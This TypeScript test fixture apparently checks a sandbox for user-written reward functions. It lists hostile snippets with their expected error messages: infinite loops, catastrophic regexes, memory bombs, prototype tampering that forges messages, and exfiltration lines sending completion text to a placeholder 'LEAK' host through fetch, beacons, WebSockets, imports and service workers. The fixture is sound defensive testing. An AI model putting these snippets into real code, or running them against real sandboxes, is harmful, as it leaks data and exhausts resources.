/**
 * @file Reward code that means harm, or is merely broken: each with what the page has to say about it. `LEAK` stands for the
 * address of a server that must never be asked for anything.
 */

export interface HostileReward {
  name: string;
  code: string;
  says: RegExp;
}

const STOPPED = /^It was stopped: it did not (?:end|start) within [\d.]+ s\.$/;
/** What it reaches for is not there. */
const MISSING =
  /^It threw (?:ReferenceError: \w+ is not defined|TypeError: .*(?:undefined|not a (?:function|constructor))).*\.$/;
/** The policy refuses it. */
const REFUSED =
  /^It threw (?:TypeError: Failed to fetch dynamically imported module|EvalError|TypeError: .*import).*/;
const NO_NUMBER =
  /^It gave (?:a string|an object|a function|a boolean|a bigint|nothing|null); a reward is a number\.$/;
const NOT_FINITE = /^It gave -?(?:NaN|Infinity), which is not a finite number\.$/;

/** A function with this body. */
const body = (text: string) => `function reward({ completion, toolCalls }) {\n${text}\n}`;
const asynchronous = (text: string) => `async function reward({ completion }) {\n${text}\n}`;

export const HOSTILE: readonly HostileReward[] = [
  // Time
  { name: 'an endless loop', code: body('for (;;);'), says: STOPPED },
  { name: 'an endless loop outside of the function', code: `for (;;);\n${body('return 1;')}`, says: STOPPED },
  {
    name: 'a catastrophic regular expression',
    code: body('return /^(a+)+$/.test("a".repeat(60) + "!") ? 1 : 0;'),
    says: STOPPED,
  },
  { name: 'a promise that never resolves', code: body('return new Promise(() => {});'), says: STOPPED },
  {
    name: 'a flood of promises',
    code: body(
      'const next = () => Promise.resolve().then(next);\nfor (let i = 0; i < 100; i++) next();\nreturn new Promise(() => {});',
    ),
    says: STOPPED,
  },
  { name: 'a then that never calls back', code: body('return { then() {} };'), says: STOPPED },
  {
    name: 'a getter that never returns',
    code: body('throw { get message() { for (;;); } };'),
    says: STOPPED,
  },
  {
    name: 'arithmetic without end',
    code: body('let x = 2n;\nfor (;;) x = (x * x) % (2n ** 4096n - 1n) + 1n;'),
    says: STOPPED,
  },
  {
    name: 'recursion without end',
    code: body('return reward({});'),
    says: /^It threw RangeError: Maximum call stack/,
  },
  // Memory
  {
    name: 'a memory bomb of objects',
    code: body('const kept = [];\nfor (;;) kept.push(new Array(1000).fill({ x: kept.length }));'),
    says: STOPPED,
  },
  {
    name: 'a memory bomb of buffers',
    code: body('const kept = [];\nfor (;;) kept.push(new Uint8Array(2 ** 20));'),
    says: /^It was stopped|^It threw RangeError/,
  },
  {
    name: 'a text that doubles',
    code: body('let t = "x";\nfor (;;) t += t;'),
    says: /^It threw RangeError: Invalid string length/,
  },
  {
    name: 'a buffer larger than any',
    code: body('return new ArrayBuffer(2 ** 53 - 1).byteLength;'),
    says: /^It threw RangeError/,
  },
  // What it gives
  {
    name: 'an error',
    code: body('throw new Error("no reward today");'),
    says: /^It threw Error: no reward today\.$/,
  },
  { name: 'a thrown text', code: body('throw "out";'), says: /^It threw out\.$/ },
  { name: 'a thrown nothing', code: body('throw undefined;'), says: /^It threw undefined\.$/ },
  { name: 'a thrown symbol', code: body('throw Symbol("odd");'), says: /^It threw Symbol\(odd\)\.$/ },
  {
    name: 'an error of a million characters',
    code: body('throw new Error("x".repeat(1e6));'),
    says: /^It threw Error: x{250,300}\.$/,
  },
  {
    name: 'an error whose fields throw',
    code: body('throw { get message() { throw this; }, get stack() { throw 1; } };'),
    says: /^It threw something that cannot be shown\.$/,
  },
  {
    name: 'a rejected promise',
    code: asynchronous('throw new TypeError("later");'),
    says: /^It threw TypeError: later\.$/,
  },
  { name: 'NaN', code: body('return 0 / 0;'), says: NOT_FINITE },
  { name: 'infinity', code: body('return -1 / 0;'), says: NOT_FINITE },
  { name: 'a text for a number', code: body('return "1";'), says: NO_NUMBER },
  { name: 'a text of 64 MB', code: body('return "x".repeat(2 ** 26);'), says: NO_NUMBER },
  { name: 'nothing', code: body('completion.text;'), says: NO_NUMBER },
  { name: 'a bigint', code: body('return 1n;'), says: NO_NUMBER },
  {
    name: 'an object that is a number in disguise',
    code: body('return { valueOf: () => 1 };'),
    says: NO_NUMBER,
  },
  {
    name: 'a proxy that throws at everything',
    code: body('return new Proxy({}, { get() { throw new Error("trap"); } });'),
    says: /^It threw Error: trap\.$/,
  },
  { name: 'no function', code: 'const score = 1;', says: /^It defines no function named “reward”\.$/ },
  { name: 'no JavaScript', code: 'function reward( { return', says: /^SyntaxError: .*\.$/ },
  {
    name: 'a bracket that closes what it did not open',
    code: '}, 0, 0);\npostMessage({ value: 1 });\n(function () {',
    says: /^(?:It closes a bracket that it has not opened|It sent a message that nobody asked for, and was stopped|It gave no readable answer|.*Error: .*)\.$/,
  },
  // Messages
  { name: 'a forged answer', code: body('postMessage({ id: 1, value: 1e9 });\nreturn 1;'), says: MISSING },
  {
    name: 'an answer by the global object',
    code: body('globalThis.postMessage({ id: 1, value: 1e9 });\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'a listener of its own',
    code: `onmessage = () => postMessage("mine");\n${body('return 1;')}`,
    says: MISSING,
  },
  {
    name: 'listeners off a prototype',
    code: body(
      [
        'for (let at = globalThis; at; at = Object.getPrototypeOf(at))',
        '  if (at.addEventListener) return at.addEventListener("message", () => {}) ?? 1;',
        'return "none is left";',
      ].join('\n'),
    ),
    says: NO_NUMBER,
  },
  {
    name: 'prototypes changed under the messages',
    code: body(
      [
        'const forged = (value) => ({ __proto__: null, get: () => value, set() {}, configurable: true });',
        'for (const [key, value] of [["id", 7], ["loaded", true], ["value", 1e9]])',
        '  Object.defineProperty(Object.prototype, key, forged(value));',
        'String.prototype.slice = () => { for (;;); };',
        'Promise.prototype.then = () => { for (;;); };',
        'Number.isFinite = isFinite = () => true;',
        'JSON.parse = () => ({});',
        'return NaN;',
      ].join('\n'),
    ),
    says: NOT_FINITE,
  },
  {
    name: 'a flood of output',
    code: body('for (let i = 0; i < 1e5; i++) console.log("x".repeat(1000), { i });\nreturn "done";'),
    says: NO_NUMBER,
  },
  {
    name: 'a message channel',
    code: body('new MessageChannel().port1.postMessage(1);\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'a broadcast',
    code: body('new BroadcastChannel("losslight").postMessage("hello");\nreturn 1;'),
    says: MISSING,
  },
  // The network
  {
    name: 'fetch',
    code: asynchronous('await fetch("LEAK/fetch?" + completion.text);\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'XMLHttpRequest',
    code: body(
      'const x = new XMLHttpRequest();\nx.open("POST", "LEAK/xhr", false);\nx.send(completion.text);\nreturn 1;',
    ),
    says: MISSING,
  },
  {
    name: 'a WebSocket',
    code: body('new WebSocket("LEAK/socket".replace("http", "ws"));\nreturn 1;'),
    says: MISSING,
  },
  { name: 'an EventSource', code: body('new EventSource("LEAK/events");\nreturn 1;'), says: MISSING },
  { name: 'WebTransport', code: body('new WebTransport("https://127.0.0.1:1/");\nreturn 1;'), says: MISSING },
  {
    name: 'a beacon',
    code: body('navigator.sendBeacon("LEAK/beacon", completion.text);\nreturn 1;'),
    says: MISSING,
  },
  { name: 'importScripts', code: `importScripts("LEAK/script.js");\n${body('return 1;')}`, says: MISSING },
  {
    name: 'an import of an address',
    code: asynchronous('await import("LEAK/module.js");\nreturn 1;'),
    says: REFUSED,
  },
  {
    name: 'an import of a text',
    code: asynchronous(
      'const m = await import("data:text/javascript,export default fetch");\nawait m.default("LEAK/data");\nreturn 1;',
    ),
    says: REFUSED,
  },
  {
    name: 'an import of a blob',
    code: asynchronous('await import(URL.createObjectURL(new Blob(["fetch(\'LEAK/blob\')"])));\nreturn 1;'),
    says: MISSING,
  },
  { name: 'an image', code: body('new Image().src = "LEAK/image";\nreturn 1;'), says: MISSING },
  { name: 'a font', code: body('new FontFace("x", "url(LEAK/font)").load();\nreturn 1;'), says: MISSING },
  { name: 'a peer connection', code: body('new RTCPeerConnection();\nreturn 1;'), says: MISSING },
  // Storage
  { name: 'indexedDB', code: body('indexedDB.open("losslight");\nreturn 1;'), says: MISSING },
  { name: 'caches', code: asynchronous('await caches.open("x");\nreturn 1;'), says: MISSING },
  {
    name: 'localStorage',
    code: body('localStorage.setItem("x", completion.text);\nreturn 1;'),
    says: MISSING,
  },
  { name: 'cookies', code: body('document.cookie = "x=1";\nreturn 1;'), says: MISSING },
  {
    name: 'the private file system',
    code: asynchronous('await navigator.storage.getDirectory();\nreturn 1;'),
    says: MISSING,
  },
  // The page, and further threads
  { name: 'the page above', code: body('parent.document.title = "mine";\nreturn 1;'), says: MISSING },
  { name: 'the topmost page', code: body('top.location = "LEAK/top";\nreturn 1;'), says: MISSING },
  {
    name: 'navigation',
    code: body('location.href = "LEAK/navigate";\nreturn location.href.length;'),
    says: MISSING,
  },
  { name: 'a window', code: body('window.open("LEAK/window");\nreturn 1;'), says: MISSING },
  { name: 'a dialog', code: body('alert("hello");\nreturn 1;'), says: MISSING },
  {
    name: 'a worker inside',
    code: body('new Worker("data:text/javascript,for(;;);");\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'a shared worker',
    code: body('new SharedWorker("data:text/javascript,1");\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'a service worker',
    code: body('navigator.serviceWorker.register("LEAK/sw.js");\nreturn 1;'),
    says: MISSING,
  },
  { name: 'close', code: `close();\n${body('return 1;')}`, says: MISSING },
  { name: 'timers in a flood', code: body('for (;;) setInterval(() => {}, 0);'), says: MISSING },
  {
    name: 'waiting on shared memory',
    code: body('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);\nreturn 1;'),
    says: MISSING,
  },
  {
    name: 'WebAssembly',
    code: body('new WebAssembly.Memory({ initial: 65536 });\nreturn 1;'),
    says: MISSING,
  },
  { name: 'eval', code: body('return (0, eval)("1");'), says: MISSING },
  { name: 'Function from a text', code: body('return Function("return 1")();'), says: REFUSED },
  {
    name: 'Function by way of a constructor',
    code: body('return (async () => {}).constructor("return fetch")();'),
    says: REFUSED,
  },
  { name: 'the graphics card', code: body('navigator.gpu.requestAdapter();\nreturn 1;'), says: MISSING },
  {
    name: 'a canvas',
    code: body('new OffscreenCanvas(30000, 30000).getContext("2d").fillRect(0, 0, 1, 1);\nreturn 1;'),
    says: MISSING,
  },
];

/** A promise of whether something opened or failed. */
const opened = (what: string) =>
  `return new Promise((resolve) => { const x = ${what}; x.onopen = x.onsuccess = () => resolve('open'); x.onerror = () => resolve('failed'); });`;

/** Scripts in the frame's worker with all that a worker has: the frame, its origin and its policy are all that holds them. */
export const BARE: readonly HostileReward[] = [
  {
    name: 'fetch',
    code: 'return (await fetch("LEAK/bare-fetch", { mode: "no-cors" })).type;',
    says: /^refused: TypeError/,
  },
  {
    name: 'XMLHttpRequest',
    code: 'const x = new XMLHttpRequest(); x.open("GET", "LEAK/bare-xhr", false); x.send(); return x.status;',
    says: /^refused: NetworkError/,
  },
  {
    name: 'a WebSocket',
    code: opened('new WebSocket("LEAK/bare-socket".replace("http", "ws"))'),
    says: /failed|^refused/,
  },
  { name: 'an EventSource', code: opened('new EventSource("LEAK/bare-events")'), says: /failed|^refused/ },
  {
    name: 'importScripts',
    code: 'importScripts("LEAK/bare-script.js"); return 1;',
    says: /^refused: (?:NetworkError|TypeError)/,
  },
  { name: 'an import', code: 'await import("LEAK/bare-module.js"); return 1;', says: /^refused: TypeError/ },
  { name: 'a text as script', code: 'return eval("1");', says: /^refused: EvalError/ },
  {
    name: 'fetch from a worker inside the worker',
    code: [
      "const text = \"fetch('LEAK/bare-nested', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('failed'))\";",
      'const inner = new Worker(URL.createObjectURL(new Blob([text])));',
      'return new Promise((resolve) => { inner.onmessage = ({ data }) => resolve(data); inner.onerror = () => resolve("failed"); });',
    ].join('\n'),
    says: /failed|^refused/,
  },
  { name: 'indexedDB', code: opened('indexedDB.open("bare")'), says: /^refused: SecurityError|failed/ },
  { name: 'caches', code: 'await caches.open("bare"); return 1;', says: /^refused/ },
  {
    name: 'the private file system',
    code: 'await navigator.storage.getDirectory(); return 1;',
    says: /^refused: (?:SecurityError|TypeError)/,
  },
  { name: 'its origin', code: 'return origin;', says: /^done: null$/ },
  {
    name: 'a flood of messages',
    code: 'for (let i = 0; i < 5000; i++) postMessage({ id: 1000 + i, value: i }); for (;;);',
    says: /^It sent a message that nobody asked for, and was stopped\.$/,
  },
  {
    name: 'an answer of a million characters',
    code: 'return "x".repeat(2 ** 20);',
    says: /^done: x{3994}$/,
  },
  {
    name: 'a broadcast to the page',
    code: 'new BroadcastChannel("losslight-test").postMessage("out"); return 1;',
    says: /^done: 1$|^refused/,
  },
];
